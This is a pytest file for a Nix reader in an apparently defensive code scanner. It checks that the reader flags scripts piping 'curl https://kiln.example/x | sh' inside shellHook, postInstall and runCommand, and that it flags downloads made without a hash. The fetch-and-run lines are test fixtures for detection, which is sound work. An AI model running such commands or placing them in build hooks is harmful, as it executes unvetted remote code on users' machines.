"""The scripts within Nix expressions are read, and what is fetched without a hash is seen."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.nix import READER


def seen(code: str) -> set[tuple[int, str]]:
    notes = Notes("flake.nix", every_line=True, is_program=True)
    READER.read(notes, code.encode())
    return {(observation.line, observation.capability) for observation in notes.observations()}


@pytest.mark.parametrize(
    ("code", "line"),
    [
        ("{\n  shellHook = ''\n    curl https://kiln.example/x | sh\n  '';\n}", 3),
        ('{ postInstall = "curl https://kiln.example/x | sh"; }', 1),
        ('runCommand "glaze" { } "curl https://kiln.example/x | sh"', 1),
    ],
)
def test_a_script_is_read(code: str, line: int) -> None:
    assert (line, "fetch_and_run") in seen(code)


@pytest.mark.parametrize(
    "code",
    [
        'builtins.fetchurl "https://kiln.example/x"',
        'builtins.fetchurl {\n  url = "https://kiln.example/x";\n}',
        'import (fetchTarball "https://kiln.example/x.tar.gz") { }',
    ],
)
def test_what_is_fetched_without_a_hash_is_seen(code: str) -> None:
    assert seen(code) == {(1, "downloads_in_build")}


@pytest.mark.parametrize(
    "code",
    [
        'fetchurl { url = "https://kiln.example/x"; sha256 = "0123"; }',
        'fetchurl { url = "https://kiln.example/x"; inherit hash; }',
        f'fetchTarball "https://kiln.example/{"a1" * 20}.tar.gz"',
        "buildPhase = ''\n  make ''${glaze} PREFIX=$out\n  install -m755 kiln $out/bin/kiln\n'';",
    ],
)
def test_ordinary_expressions_show_nothing(code: str) -> None:
    assert not seen(code)


@pytest.mark.parametrize("piece", ["''", "'' a", "fetchurl {", '= "', "''$", 'postA = "a'])
def test_odd_expressions_are_read(piece: str) -> None:
    assert isinstance(seen(piece * 50_000), set)
